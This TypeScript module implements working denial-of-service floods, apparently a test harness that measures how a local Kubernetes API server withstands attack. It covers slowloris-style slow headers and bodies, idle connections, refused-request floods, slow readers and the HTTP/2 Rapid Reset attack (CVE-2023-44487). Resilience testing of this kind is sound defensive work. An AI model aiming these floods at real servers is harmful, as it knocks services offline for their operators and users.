/** Floods of a server by one client: each keeps on until it is stopped, and counts what it was answered. */
import { type ClientHttp2Session, connect as connectHttp2, constants } from 'node:http2';
import { connect as connectTcp, type Socket } from 'node:net';
import { connect as connectTls, type TLSSocket } from 'node:tls';

export interface Target {
  readonly port: number;
  /** Absent: an anonymous client. */
  readonly token?: string | undefined;
  /** Of the client: the flood comes from another host than its victims. */
  readonly address: string;
}

export interface Attack {
  /** Answers by status, and ends of connections without one as `closed`. */
  readonly outcomes: Map<string, number>;
  /** Requests or connections begun. */
  begun(): number;
  stop(): void;
}

export type Flood = (target: Target, size: number) => Attack;

const host = '127.0.0.1';
/** A request that every authenticated user may send. */
const reviews = '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews';
/** A user without rights gets 403. */
const refused = '/api/v1/namespaces/default/configmaps';
/** An end that comes sooner is followed by a pause. */
const pauseMs = 20;

/** Keeps `size` things open: each is opened again when it ends. */
class Keeper implements Attack {
  readonly outcomes = new Map<string, number>();
  #begun = 0;
  #stopped = false;
  readonly #open = new Set<{ destroy(): unknown }>();

  get stopped(): boolean {
    return this.#stopped;
  }

  begun(): number {
    return this.#begun;
  }

  count(outcome: string): void {
    this.outcomes.set(outcome, (this.outcomes.get(outcome) ?? 0) + 1);
  }

  /** `open` calls back once, at the end. */
  keep(size: number, open: (end: (outcome: string) => void) => { destroy(): unknown }): void {
    const again = () => {
      if (this.#stopped) return;
      this.#begun++;
      let over = false;
      const thing = open((outcome) => {
        if (over) return;
        over = true;
        this.count(outcome);
        if (thing !== undefined) this.#open.delete(thing);
        setTimeout(again, pauseMs).unref();
      });
      this.#open.add(thing);
    };
    for (let i = 0; i < size; i++) again();
  }

  stop(): void {
    this.#stopped = true;
    for (const each of this.#open) each.destroy();
  }
}

const tls = { host, rejectUnauthorized: false } as const;

const from = ({ port, address }: Target) => ({ port, localAddress: address });

function authorization({ token }: Target): Record<string, string> {
  return token === undefined ? {} : { authorization: `Bearer ${token}` };
}

function headOf(target: Target, method: string, path: string, headers: Readonly<Record<string, string>>): string {
  const lines = Object.entries({ host: 'a', ...authorization(target), ...headers });
  return `${method} ${path} HTTP/1.1\r\n${lines.map(([name, value]) => `${name}: ${value}\r\n`).join('')}\r\n`;
}

/** Reports the status of the first answer, or the close without one. */
function outcomeOf(socket: Socket | TLSSocket, end: (outcome: string) => void): void {
  let status = 'closed';
  socket.setEncoding('latin1');
  socket.on('data', (text: string) => {
    if (status === 'closed') status = /^HTTP\/1\.1 ([0-9]+)/.exec(text)?.[1] ?? 'other';
  });
  socket.on('error', () => undefined);
  socket.on('close', () => end(status));
}

/** Bodies of a thousand bytes, of which one arrives. */
const slowBodies1: Flood = (target, size) => {
  const keeper = new Keeper();
  const head = headOf(target, 'POST', reviews, { 'content-type': 'application/json', 'content-length': '1000' });
  keeper.keep(size, (end) => {
    const socket = connectTls({ ...tls, ...from(target), ALPNProtocols: ['http/1.1'] });
    socket.write(`${head}{`);
    outcomeOf(socket, end);
    return socket;
  });
  return keeper;
};

type Begin = (session: ClientHttp2Session, end: (outcome: string) => void) => void;

/** Streams on as few connections as possible, each begun again at its end. */
function streams(target: Target, size: number, begin: Begin, perConnection = 125): Keeper {
  const keeper = new Keeper();
  const connections = Math.ceil(size / perConnection);
  keeper.keep(connections, (end) => {
    const socket = connectTls({ ...tls, ...from(target), ALPNProtocols: ['h2'] });
    const session = connectHttp2(`https://${host}`, { createConnection: () => socket });
    session.on('error', () => undefined);
    session.on('close', () => end('closed'));
    const again = () => {
      if (session.destroyed || session.closed || keeper.stopped) return;
      begin(session, (outcome) => {
        keeper.count(outcome);
        setTimeout(again, pauseMs).unref();
      });
    };
    session.once('connect', () => {
      for (let i = 0; i < Math.ceil(size / connections); i++) again();
    });
    return session;
  });
  return keeper;
}

function request(
  session: ClientHttp2Session,
  headers: Readonly<Record<string, string>>,
  { ends, pauses = false }: { readonly ends: boolean; readonly pauses?: boolean },
  end: (outcome: string) => void,
) {
  const stream = session.request(headers, { endStream: ends });
  let status = 'closed';
  stream.on('response', (head) => {
    status = String(head[':status']);
  });
  stream.on('error', () => undefined);
  stream.on('close', () => end(status));
  if (!pauses) stream.resume();
  return stream;
}

const slowBodies2: Flood = (target, size) =>
  streams(target, size, (session, end) => {
    const headers = {
      ':method': 'POST',
      ':path': reviews,
      'content-type': 'application/json',
      'content-length': '1000',
    };
    request(session, { ...headers, ...authorization(target) }, { ends: false }, end).write('{');
  });

/** One byte of a header each second. */
const slowHeaders1: Flood = (target, size) => {
  const keeper = new Keeper();
  keeper.keep(size, (end) => {
    const socket = connectTls({ ...tls, ...from(target), ALPNProtocols: ['http/1.1'] });
    socket.write(`GET / HTTP/1.1\r\nhost: a\r\nx-slow: `);
    const timer = setInterval(() => socket.write('a'), 1000);
    timer.unref();
    socket.once('close', () => clearInterval(timer));
    outcomeOf(socket, end);
    return socket;
  });
  return keeper;
};

/** Connections without requests; half of them without a handshake. */
const idleConnections: Flood = (target, size) => {
  const keeper = new Keeper();
  let opened = 0;
  keeper.keep(size, (end) => {
    const socket = opened++ % 2 === 0 ? connectTcp({ host, ...from(target) }) : connectTls({ ...tls, ...from(target) });
    outcomeOf(socket, end);
    return socket;
  });
  return keeper;
};

/** Connections that end after their handshake. */
const handshakes: Flood = (target, size) => {
  const keeper = new Keeper();
  keeper.keep(size, (end) => {
    const socket = connectTls({ ...tls, ...from(target), ALPNProtocols: ['h2'] }, () => socket.destroy());
    outcomeOf(socket, end);
    return socket;
  });
  return keeper;
};

/** Requests that the server refuses: 401, 403 or 404. */
const rejected2: Flood = (target, size) =>
  streams(target, size, (session, end) => {
    request(session, { ':path': refused, ...authorization(target) }, { ends: true }, end);
  });

const rejected1: Flood = (target, size) => {
  const keeper = new Keeper();
  const head = headOf(target, 'GET', refused, {});
  keeper.keep(size, (end) => {
    const socket = connectTls({ ...tls, ...from(target), ALPNProtocols: ['http/1.1'] });
    socket.write(head);
    socket.on('data', () => {
      keeper.count('answered');
      setTimeout(() => socket.write(head), pauseMs).unref();
    });
    outcomeOf(socket, end);
    return socket;
  });
  return keeper;
};

/** Requests that every user may send. */
const requests2: Flood = (target, size) =>
  streams(target, size, (session, end) => {
    request(session, { ':path': '/version', ...authorization(target) }, { ends: true }, end);
  });

/** Requests that the client cancels at once (CVE-2023-44487). */
const rapidReset: Flood = (target, size) =>
  streams(target, size, (session, end) => {
    const headers = { ':path': '/apis', ...authorization(target) };
    request(session, headers, { ends: true }, end).close(constants.NGHTTP2_CANCEL);
  });

/** Large responses that the client does not read. */
export const slowReaders = (path: string): readonly [http1: Flood, http2: Flood] => [
  (target, size) => {
    const keeper = new Keeper();
    const head = headOf(target, 'GET', path, {});
    keeper.keep(size, (end) => {
      const socket = connectTls({ ...tls, ...from(target), ALPNProtocols: ['http/1.1'] });
      socket.write(head);
      socket.on('error', () => undefined);
      socket.on('close', () => end('closed'));
      return socket;
    });
    return keeper;
  },
  (target, size) =>
    streams(target, size, (session, end) => {
      request(session, { ':path': path, ...authorization(target) }, { ends: true, pauses: true }, end);
    }),
];

/** Every flood that a user without rights can begin, with its size over all clients. */
export const floods: Readonly<Record<string, readonly [size: number, flood: Flood]>> = {
  'slow bodies over HTTP/1.1': [250, slowBodies1],
  'slow bodies over HTTP/2': [500, slowBodies2],
  'slow headers': [250, slowHeaders1],
  'idle connections': [250, idleConnections],
  handshakes: [50, handshakes],
  'refused requests over HTTP/1.1': [50, rejected1],
  'refused requests over HTTP/2': [250, rejected2],
  'requests over HTTP/2': [250, requests2],
  'cancelled requests': [250, rapidReset],
};

/** Requests that wait for another server. `bodyOf`: by a number. */
export const waiting = (method: string, path: string, bodyOf?: (i: number) => object): Flood => {
  let begun = 0;
  return (target, size) =>
    streams(target, size, (session, end) => {
      const headers = {
        ':method': method,
        ':path': path,
        'content-type': 'application/json',
        ...authorization(target),
      };
      const body = bodyOf?.(begun++);
      const stream = request(session, headers, { ends: body === undefined }, end);
      if (body !== undefined) stream.end(JSON.stringify(body));
    });
};
